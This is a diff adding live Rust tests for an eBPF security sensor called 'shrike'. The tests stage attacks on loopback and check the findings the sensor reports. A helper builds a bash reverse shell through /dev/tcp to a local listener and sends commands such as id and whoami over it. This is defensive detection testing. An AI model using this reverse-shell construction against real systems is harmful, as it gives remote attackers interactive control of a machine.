@@ -1,0 +1,522 @@
+//! Live tests: the real eBPF sensor (`shrike watch` as root), real attacks on loopback.
+//!
+//! They need root. CI runs as root, and there (`CI` set) a missing privilege fails the test
+//! rather than skipping it; elsewhere a non-root run says it skipped.
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::disallowed_methods,
+    missing_docs,
+    reason = "test code: panicking on a broken fixture is the failure report, and fixtures are ours"
+)]
+
+use serde_json::Value;
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{SocketAddr, TcpListener};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::sync::{mpsc, Mutex};
+use std::time::{Duration, Instant};
+
+/// Sensors from parallel tests would see each other's activity: one at a time.
+static SERIAL: Mutex<()> = Mutex::new(());
+
+pub fn is_root() -> bool {
+    nix_euid() == 0
+}
+
+fn nix_euid() -> u32 {
+    let status = std::fs::read_to_string("/proc/self/status").unwrap();
+    status
+        .lines()
+        .find_map(|l| l.strip_prefix("Uid:"))
+        .and_then(|v| v.split_whitespace().nth(1))
+        .and_then(|v| v.parse().ok())
+        .unwrap()
+}
+
+/// False (after saying so) when the test cannot run here; panics in CI.
+pub fn live_allowed(test: &str) -> bool {
+    if is_root() {
+        return true;
+    }
+    assert!(
+        std::env::var_os("CI").is_none(),
+        "{test}: live eBPF tests must run as root in CI"
+    );
+    eprintln!("{test}: skipped: needs root for the eBPF sensor");
+    false
+}
+
+pub struct Watch {
+    child: Child,
+    dir: tempfile::TempDir,
+    stderr: mpsc::Receiver<String>,
+    log: Vec<String>,
+}
+
+impl Watch {
+    pub fn start(extra: &[&str]) -> Watch {
+        let dir = tempfile::tempdir().unwrap();
+        let bin = assert_cmd::cargo::cargo_bin("shrike");
+        let mut child = Command::new(bin)
+            .args([
+                "watch",
+                "--no-console",
+                "--project",
+                "live",
+                "--host",
+                "live-host",
+                "--sink",
+            ])
+            .arg(format!(
+                "jsonl:{}",
+                dir.path().join("findings.jsonl").display()
+            ))
+            .arg("--record")
+            .arg(dir.path().join("events.jsonl"))
+            .args(extra)
+            .env("SHRIKE_LOG", "warn")
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let (tx, rx) = mpsc::channel();
+        let stderr = child.stderr.take().unwrap();
+        std::thread::spawn(move || {
+            for line in BufReader::new(stderr).lines().map_while(Result::ok) {
+                if tx.send(line).is_err() {
+                    break;
+                }
+            }
+        });
+        let mut watch = Watch {
+            child,
+            dir,
+            stderr: rx,
+            log: Vec::new(),
+        };
+        let deadline = Instant::now() + Duration::from_secs(60);
+        loop {
+            match watch.stderr.recv_timeout(Duration::from_millis(200)) {
+                Ok(line) => {
+                    let ready = line.contains("sensor attached");
+                    watch.log.push(line);
+                    if ready {
+                        break;
+                    }
+                }
+                Err(mpsc::RecvTimeoutError::Timeout) => {}
+                Err(mpsc::RecvTimeoutError::Disconnected) => {
+                    panic!("shrike watch died: {:?}", watch.log)
+                }
+            }
+            assert!(
+                Instant::now() < deadline,
+                "sensor not attached in 60 s: {:?}",
+                watch.log
+            );
+        }
+        // Let the bootstrap of running processes go through before the test acts.
+        std::thread::sleep(Duration::from_millis(300));
+        watch
+    }
+
+    pub fn findings_path(&self) -> PathBuf {
+        self.dir.path().join("findings.jsonl")
+    }
+
+    /// SIGTERM, wait for the drain, and return (findings, stderr lines, recording path, dir).
+    pub fn stop(mut self) -> Stopped {
+        // Give the sensor a moment to drain what the test just did.
+        std::thread::sleep(Duration::from_millis(500));
+        let pid = self.child.id();
+        let status = Command::new("kill")
+            .args(["-TERM", &pid.to_string()])
+            .status()
+            .unwrap();
+        assert!(status.success());
+        let deadline = Instant::now() + Duration::from_secs(30);
+        let exit = loop {
+            if let Some(s) = self.child.try_wait().unwrap() {
+                break s;
+            }
+            assert!(Instant::now() < deadline, "watch did not stop on SIGTERM");
+            std::thread::sleep(Duration::from_millis(50));
+        };
+        while let Ok(line) = self.stderr.recv_timeout(Duration::from_millis(500)) {
+            self.log.push(line);
+        }
+        assert!(exit.success(), "watch exited with {exit}: {:?}", self.log);
+        let text = std::fs::read_to_string(self.findings_path()).unwrap_or_default();
+        let findings = text
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect();
+        Stopped {
+            findings,
+            log: self.log,
+            dir: self.dir,
+        }
+    }
+}
+
+pub struct Stopped {
+    pub findings: Vec<Value>,
+    pub log: Vec<String>,
+    pub dir: tempfile::TempDir,
+}
+
+impl Stopped {
+    pub fn of_module<'a>(&'a self, module: &'a str) -> impl Iterator<Item = &'a Value> + 'a {
+        self.findings
+            .iter()
+            .filter(move |f| f["finding"]["moduleName"] == module)
+    }
+
+    pub fn for_pid<'a>(&'a self, module: &'a str, pid: u32) -> Option<&'a Value> {
+        self.of_module(module)
+            .find(|f| f["finding"]["processes"][0]["pid"] == pid)
+    }
+
+    pub fn summary_line(&self) -> &str {
+        self.log
+            .iter()
+            .rev()
+            .find(|l| l.contains("shrike: stopped:"))
+            .map(String::as_str)
+            .unwrap_or("")
+    }
+}
+
+/// A shell whose stdin/stdout/stderr is a TCP connection to a listener in this process; the
+/// listener types `commands` and returns (shell's local address, what came back).
+fn reverse_shell(listen: &str, connect: &str, commands: &str) -> (SocketAddr, String, u16) {
+    let listener = TcpListener::bind(listen).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let script = format!("bash --norc --noprofile -i >& /dev/tcp/{connect}/{port} 0>&1");
+    let mut shell = Command::new("env")
+        .args([
+            "-i",
+            "PATH=/usr/sbin:/usr/bin:/sbin:/bin",
+            "HOME=/nonexistent",
+            "bash",
+            "--norc",
+            "--noprofile",
+            "-c",
+        ])
+        .arg(&script)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    listener.set_nonblocking(false).unwrap();
+    let (mut conn, peer) = listener.accept().unwrap();
+    conn.set_read_timeout(Some(Duration::from_secs(10)))
+        .unwrap();
+    conn.write_all(commands.as_bytes()).unwrap();
+    let mut out = String::new();
+    let _ = conn.read_to_string(&mut out);
+    shell.wait().unwrap();
+    (peer, out, port)
+}
+
+fn assert_socket_props(
+    f: &Value,
+    prefix: &str,
+    remote_ip: &str,
+    remote_port: u16,
+    local: SocketAddr,
+) {
+    let p = &f["finding"]["sourceProperties"];
+    let key = |k: &str| format!("{prefix}{k}");
+    assert_eq!(p[key("Dst_Ip")], remote_ip, "{f}");
+    assert_eq!(p[key("Dst_Port")], remote_port, "{f}");
+    assert_eq!(p[key("Src_Ip")], local.ip().to_string(), "{f}");
+    assert_eq!(p[key("Src_Port")], local.port(), "{f}");
+}
+
+fn pid_of(f: &Value) -> u64 {
+    f["finding"]["processes"][0]["pid"].as_u64().unwrap()
+}
+
+#[test]
+fn reverse_shells_and_remote_commands_over_ipv4_and_ipv6() {
+    if !live_allowed("reverse_shells_and_remote_commands_over_ipv4_and_ipv6") {
+        return;
+    }
+    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let watch = Watch::start(&[]);
+    let (peer4, out4, port4) =
+        reverse_shell("127.0.0.1:0", "127.0.0.1", "id\nwhoami\nuname -a\nexit\n");
+    let (peer6, out6, port6) = reverse_shell("[::1]:0", "::1", "id\nexit\n");
+    assert!(
+        out4.contains("uid=0"),
+        "the shell really ran the commands: {out4}"
+    );
+    assert!(out6.contains("uid=0"), "{out6}");
+    let stopped = watch.stop();
+
+    // One Reverse Shell per connection, on the `bash -i` that got the socket, with both ends.
+    let shells: Vec<&Value> = stopped
+        .of_module("REVERSE_SHELL")
+        .filter(|f| {
+            let p = &f["finding"]["sourceProperties"];
+            p["Reverse_Shell_Stdin_Redirection_Dst_Port"] == port4
+                || p["Reverse_Shell_Stdin_Redirection_Dst_Port"] == port6
+        })
+        .collect();
+    assert_eq!(shells.len(), 2, "{:#?}", stopped.findings);
+    let v4 = shells
+        .iter()
+        .find(|f| {
+            f["finding"]["sourceProperties"]["Reverse_Shell_Stdin_Redirection_Dst_Port"] == port4
+        })
+        .unwrap();
+    assert_socket_props(
+        v4,
+        "Reverse_Shell_Stdin_Redirection_",
+        "127.0.0.1",
+        port4,
+        peer4,
+    );
+    let f = &v4["finding"];
+    assert_eq!(f["category"], "Reverse Shell");
+    assert_eq!(f["severity"], "CRITICAL");
+    assert_eq!(
+        f["sourceProperties"]["Reverse_Shell_Redirected_Fd"],
+        "stdin"
+    );
+    assert_eq!(f["processes"][0]["binary"]["path"], "/usr/bin/bash");
+    assert_eq!(
+        f["processes"][0]["args"],
+        serde_json::json!(["bash", "--norc", "--noprofile", "-i"])
+    );
+    assert_eq!(f["indicator"]["ipAddresses"][0], "127.0.0.1");
+    assert!(
+        f["processes"][0]["binary"]["sha256"]
+            .as_str()
+            .unwrap()
+            .len()
+            == 64
+    );
+    // Its ancestry: the `bash -c` that made the redirection, then env, then this test.
+    assert!(f["processes"].as_array().unwrap().len() >= 3, "{f}");
+    assert_eq!(v4["resource"]["type"], "shrike.Host");
+    let v6 = shells
+        .iter()
+        .find(|f| {
+            f["finding"]["sourceProperties"]["Reverse_Shell_Stdin_Redirection_Dst_Port"] == port6
+        })
+        .unwrap();
+    assert_socket_props(v6, "Reverse_Shell_Stdin_Redirection_", "::1", port6, peer6);
+
+    // Each command sent down the connection is a Possible Remote Command Execution.
+    let rce: Vec<&Value> = stopped
+        .of_module("POSSIBLE_REMOTE_COMMAND_EXECUTION_DETECTED")
+        .filter(|f| f["finding"]["sourceProperties"]["Socket_Remote_Port"] == port4)
+        .collect();
+    let mut commands: Vec<&str> = rce
+        .iter()
+        .map(|f| {
+            f["finding"]["sourceProperties"]["Remote_Command"]
+                .as_str()
+                .unwrap()
+        })
+        .collect();
+    commands.sort_unstable();
+    assert_eq!(commands, vec!["id", "uname", "whoami"], "{rce:#?}");
+    for f in &rce {
+        let p = &f["finding"]["sourceProperties"];
+        assert_eq!(p["Socket_Remote_Ip"], "127.0.0.1", "{f}");
+        assert_eq!(p["Socket_Local_Ip"], "127.0.0.1", "{f}");
+        assert_eq!(p["Socket_Local_Port"], peer4.port(), "{f}");
+        assert_eq!(p["Socket_Fd"], "stdin", "{f}");
+        assert_eq!(f["finding"]["severity"], "MEDIUM");
+        let cmd = f["finding"]["sourceProperties"]["Remote_Command"]
+            .as_str()
+            .unwrap();
+        assert_eq!(
+            f["finding"]["processes"][0]["binary"]["path"],
+            format!("/usr/bin/{cmd}")
+        );
+        // The shell that holds the socket is the reported Reverse Shell.
+        assert_eq!(
+            f["finding"]["processes"][1]["pid"].as_u64(),
+            Some(pid_of(v4))
+        );
+    }
+    assert!(
+        stopped.summary_line().contains("lost: 0 in the kernel"),
+        "{:?}",
+        stopped.log
+    );
+}
+
+#[test]
+fn host_compilers_and_benign_pipelines_report_nothing() {
+    if !live_allowed("host_compilers_and_benign_pipelines_report_nothing") {
+        return;
+    }
+    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let dir = tempfile::tempdir().unwrap();
+    let src = dir.path().join("hello.c");
+    std::fs::write(&src, "int main(void) { return 0; }\n").unwrap();
+    let script = dir.path().join("job.py");
+    std::fs::write(
+        &script,
+        "import json, subprocess\nprint(json.dumps({'ok': subprocess.run(['true']).returncode}))\n",
+    )
+    .unwrap();
+    let watch = Watch::start(&[]);
+    let gcc = Command::new("gcc")
+        .arg("-o")
+        .arg(dir.path().join("hello"))
+        .arg(&src)
+        .status()
+        .unwrap();
+    assert!(gcc.success());
+    let sh = Command::new("sh")
+        .args([
+            "-c",
+            "ls / | grep -c usr | wc -l; cat /etc/hostname | head -1",
+        ])
+        .output()
+        .unwrap();
+    assert!(sh.status.success());
+    let py = Command::new("python3").arg(&script).output().unwrap();
+    assert!(py.status.success());
+    let stopped = watch.stop();
+    let mine: Vec<&Value> = stopped
+        .findings
+        .iter()
+        .filter(|f| {
+            let args = f["finding"]["processes"][0]["args"].to_string();
+            args.contains("hello")
+                || args.contains("job.py")
+                || args.contains("grep")
+                || args.contains("hostname")
+        })
+        .collect();
+    assert!(
+        mine.is_empty(),
+        "benign host activity was reported: {mine:#?}"
+    );
+    assert_eq!(
+        stopped
+            .of_module("LAUNCH_CODE_COMPILER_TOOL_IN_CONTAINER")
+            .count(),
+        0
+    );
+}
+
+#[test]
+fn a_process_that_exits_at_once_is_still_hashed_and_matched() {
+    if !live_allowed("a_process_that_exits_at_once_is_still_hashed_and_matched") {
+        return;
+    }
+    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    // A copy of /bin/true under a new name (so the hash cache has never seen it), listed in a feed.
+    let dir = tempfile::tempdir().unwrap();
+    let tool = dir.path().join("shrike-quick-exit");
+    let mut bytes = std::fs::read("/bin/true").unwrap();
+    bytes.extend_from_slice(format!("shrike-test-{}", std::process::id()).as_bytes());
+    std::fs::write(&tool, &bytes).unwrap();
+    std::fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    use sha2::Digest;
+    let sha = hex::encode(sha2::Sha256::digest(&bytes));
+    let feed = dir.path().join("feed.txt");
+    std::fs::write(&feed, format!("{sha};Test.QuickExit\n")).unwrap();
+    let watch = Watch::start(&["--intel", feed.to_str().unwrap()]);
+    let started = Instant::now();
+    let status = Command::new(&tool).status().unwrap();
+    assert!(status.success());
+    let ran_for = started.elapsed();
+    let stopped = watch.stop();
+    let f = stopped
+        .of_module("BUILT_IN_MALICIOUS_BINARY_EXECUTED")
+        .find(|f| f["finding"]["processes"][0]["binary"]["path"] == tool.to_str().unwrap())
+        .unwrap_or_else(|| {
+            panic!(
+                "no finding for {} (ran {ran_for:?}): {:#?} {:?}",
+                tool.display(),
+                stopped.findings,
+                stopped.log
+            )
+        });
+    let f = &f["finding"];
+    assert_eq!(f["sourceProperties"]["Binary_Sha256"], sha.as_str());
+    assert_eq!(f["sourceProperties"]["Binary_Layer"], "host");
+    assert_eq!(f["sourceProperties"]["Intel_Comment"], "Test.QuickExit");
+    assert_eq!(
+        f["externalUri"],
+        format!("https://www.virustotal.com/gui/file/{sha}")
+    );
+}
+
+#[test]
+fn replaying_the_recording_gives_the_live_findings() {
+    if !live_allowed("replaying_the_recording_gives_the_live_findings") {
+        return;
+    }
+    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let watch = Watch::start(&[]);
+    let (_, out, _) = reverse_shell("127.0.0.1:0", "127.0.0.1", "id\nexit\n");
+    assert!(out.contains("uid="));
+    let stopped = watch.stop();
+    assert!(stopped.of_module("REVERSE_SHELL").count() >= 1);
+    let recording = stopped.dir.path().join("events.jsonl");
+    let replay = assert_cmd::Command::cargo_bin("shrike")
+        .unwrap()
+        .args(["replay", "--project", "live", "--host", "live-host"])
+        .arg(&recording)
+        .output()
+        .unwrap();
+    assert!(
+        replay.status.success(),
+        "{}",
+        String::from_utf8_lossy(&replay.stderr)
+    );
+    let without_create_time = |mut v: Value| {
+        v["finding"].as_object_mut().unwrap().remove("createTime");
+        v
+    };
+    let live: Vec<Value> = stopped
+        .findings
+        .iter()
+        .cloned()
+        .map(without_create_time)
+        .collect();
+    let replayed: Vec<Value> = String::from_utf8(replay.stdout)
+        .unwrap()
+        .lines()
+        .map(|l| without_create_time(serde_json::from_str(l).unwrap()))
+        .collect();
+    assert_eq!(live, replayed);
+}
+
+#[test]
+fn watch_refuses_clearly_without_root() {
+    // Runs everywhere: as root it drops privileges for the child through `setpriv`.
+    let bin = assert_cmd::cargo::cargo_bin("shrike");
+    let mut cmd = if is_root() {
+        let mut c = Command::new("setpriv");
+        c.args(["--reuid=65534", "--regid=65534", "--clear-groups"])
+            .arg(bin);
+        c
+    } else {
+        Command::new(bin)
+    };
+    let out = cmd
+        .args(["watch", "--no-console", "--sink", "jsonl:/dev/null"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("needs root"), "{stderr}");
+}
+
+#[allow(dead_code, reason = "shared with container tests")]
+fn _unused(_: &Path) {}
